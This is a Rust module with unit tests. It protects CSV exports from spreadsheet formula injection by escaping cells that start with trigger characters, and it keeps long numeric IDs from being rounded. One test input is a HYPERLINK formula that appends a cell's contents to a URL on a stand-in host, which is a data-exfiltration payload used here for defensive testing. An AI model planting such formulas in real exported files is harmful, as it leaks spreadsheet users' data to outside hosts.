//! Keeps spreadsheets from evaluating exported data (CSV formula injection)
//! and from rounding long IDs.
//!
//! Rule for cells that hold text from the export (names, bodies, tags): a
//! value whose first character is `=`, `+`, `-`, `@`, TAB, CR or one of the
//! full-width `＝`, `＋`, `－`, `＠` gets one leading `'`. Excel and
//! LibreOffice then read the cell as text. A value that already starts with
//! one or more `'` followed by such a character also gets one more `'`, so
//! [`restore`] can undo the rule exactly by removing one `'`.
//! Cells that cwlens writes itself (IDs, times, counts, room types) are
//! never changed by this rule.

use std::borrow::Cow;

/// Returns true for a first character that makes a spreadsheet read a
/// cell as a formula or command.
fn is_trigger(c: char) -> bool {
    matches!(
        c,
        '=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠'
    )
}

/// Returns true when [`neutralize`] changes `value`.
pub fn needs_neutralizing(value: &str) -> bool {
    value.trim_start_matches('\'').starts_with(is_trigger)
}

/// Applies the rule of the module documentation to a text cell.
pub fn neutralize(value: &str) -> Cow<'_, str> {
    if needs_neutralizing(value) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// Undoes [`neutralize`]: returns the value as the export held it.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_neutralizing(rest) => rest,
        _ => cell,
    }
}

/// Writes an ID so that spreadsheets keep it as text.
///
/// Excel and LibreOffice read a cell of digits as a number even when it is
/// quoted, and a double holds only 15 to 17 significant digits, so a
/// 19-digit message ID would come back rounded (`1.70221561100779E+18`).
/// The cell `="1702215611007785348"` is a formula whose value is the text of
/// the ID, which both programs show exactly. Only IDs of ASCII digits are
/// written this way, so no text from the export can turn into a formula.
/// Any other ID is written as a neutralized text cell.
pub fn id_cell(id: &str, as_text_formula: bool) -> Cow<'_, str> {
    if as_text_formula && !id.is_empty() && id.bytes().all(|b| b.is_ascii_digit()) {
        Cow::Owned(format!("=\"{id}\""))
    } else {
        neutralize(id)
    }
}

/// Undoes [`id_cell`].
pub fn restore_id(cell: &str) -> &str {
    match cell
        .strip_prefix("=\"")
        .and_then(|rest| rest.strip_suffix('"'))
    {
        Some(digits) if !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit()) => digits,
        _ => restore(cell),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn triggers_get_one_apostrophe() {
        for (value, expected) in [
            (
                "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"詳細\")",
                "'=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"詳細\")",
            ),
            ("@全員 確認お願いします", "'@全員 確認お願いします"),
            ("+81-3-0000-0000", "'+81-3-0000-0000"),
            ("-5%の件", "'-5%の件"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("＝1+1", "'＝1+1"),
            ("＋1", "'＋1"),
            ("－1", "'－1"),
            ("＠全員", "'＠全員"),
        ] {
            assert_eq!(neutralize(value), expected, "{value:?}");
        }
    }

    #[test]
    fn other_text_is_unchanged() {
        for value in [
            "お疲れ様です",
            "a\",=1+1",
            " =1+1",
            "",
            "'quoted",
            "1-2",
            "\n=1",
        ] {
            assert!(matches!(neutralize(value), Cow::Borrowed(_)), "{value:?}");
        }
    }

    #[test]
    fn apostrophe_before_trigger_is_escaped_too() {
        assert_eq!(neutralize("'=1"), "''=1");
        assert_eq!(neutralize("''-1"), "'''-1");
    }

    #[test]
    fn restore_undoes_neutralize() {
        for value in [
            "=1+1", "'=1+1", "''=1", "'", "'a", "-", "＠", "text", "", "\r", "'\t",
        ] {
            assert_eq!(restore(&neutralize(value)), value, "{value:?}");
        }
    }

    #[test]
    fn digit_ids_become_text_formulas() {
        assert_eq!(
            id_cell("1702215611007785348", true),
            "=\"1702215611007785348\""
        );
        assert_eq!(id_cell("1702215611007785348", false), "1702215611007785348");
        assert_eq!(
            restore_id("=\"1702215611007785348\""),
            "1702215611007785348"
        );
    }

    #[test]
    fn other_ids_are_text_cells() {
        assert_eq!(id_cell("=1+1", true), "'=1+1");
        assert_eq!(id_cell("abc\"", true), "abc\"");
        assert_eq!(id_cell("", true), "");
        assert_eq!(restore_id("'=1+1"), "=1+1");
        assert_eq!(restore_id("=\"1\"\""), "=\"1\"\"");
    }
}
